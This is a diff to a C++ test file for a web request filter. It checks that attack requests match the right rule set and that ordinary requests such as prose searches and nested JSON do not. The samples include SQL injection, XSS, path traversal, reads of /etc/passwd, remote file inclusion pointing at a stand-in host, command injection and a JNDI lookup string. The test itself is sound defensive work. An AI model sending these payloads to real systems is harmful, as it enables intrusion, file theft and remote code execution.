@@ -271,12 +271,15 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
     CHECK(set_hit("GET /items?id=1%20UNION%20SELECT%20password HTTP/1.1\r\n") == "sqli");
     CHECK(set_hit("GET /items?id=1'%20OR%20'1'%3D'1 HTTP/1.1\r\n") == "sqli");
     CHECK(set_hit("GET /items?id=1+union/**/all/**/select+1,2 HTTP/1.1\r\n") == "sqli");
+    CHECK(set_hit("GET /items?id=1%20or%20true HTTP/1.1\r\n") == "sqli");
+    CHECK(set_hit("GET /items?id=1)%20or%20(1%3D1 HTTP/1.1\r\n") == "sqli");
     CHECK(set_hit("GET /search?q=%3CScRiPt%3Ealert(1)%3C/script%3E HTTP/1.1\r\n") == "xss");
     CHECK(set_hit("GET /p?x=<img src=x onerror = alert(1)> HTTP/1.1\r\n") == "xss");
     CHECK(set_hit("GET /static/..%2f..%2fapp/main.py HTTP/1.1\r\n") == "traversal");
     CHECK(set_hit("GET /download?f=%2Fetc%2Fpasswd HTTP/1.1\r\n") == "file_access");
     CHECK(set_hit("GET /page?file=php://filter/resource=index HTTP/1.1\r\n") == "php");
     CHECK(set_hit("GET /page?inc=http://203.0.113.9/shell.txt? HTTP/1.1\r\n") == "rfi");
+    CHECK(set_hit("GET /go?u=http:/%5C/%5Cevil.example/x HTTP/1.1\r\n") == "rfi");
     CHECK(set_hit("GET /ping?host=127.0.0.1%3Bcat+/etc/hosts HTTP/1.1\r\n") == "rce");
     CHECK(set_hit("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n\r\n") == "java");
     CHECK(set_hit("GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7.2#stable\r\n\r\n") == "scanners");
@@ -300,6 +303,10 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
           "GET /docs/select-a-union-plan.html HTTP/1.1\r\n",
           "GET /search?q=rock+%26+roll%3B+the+cat%27s+toy HTTP/1.1\r\n",
           // Not paths, not split words: double question marks after a slash, quotes in prose.
+          "GET /search?q=step+1+or+2+is+true HTTP/1.1\r\n",
+          // JSON in a JSON string: its escaped slashes read as four.
+          "POST /api HTTP/1.1\r\n\r\n{\"hook\": "
+          "\"{\\\"url\\\":\\\"https:\\\\/\\\\/example.com\\\"}\"}",
           "GET /shop??utm_source=mail HTTP/1.1\r\n", "GET /index.php?/catalog/shoes HTTP/1.1\r\n",
           "POST /contact HTTP/1.1\r\n\r\nmsg=In+black%2Fwhite%3F%3F+Sizes+S%2FM%3F+or+M%2FL%3F",
           "POST /contact "
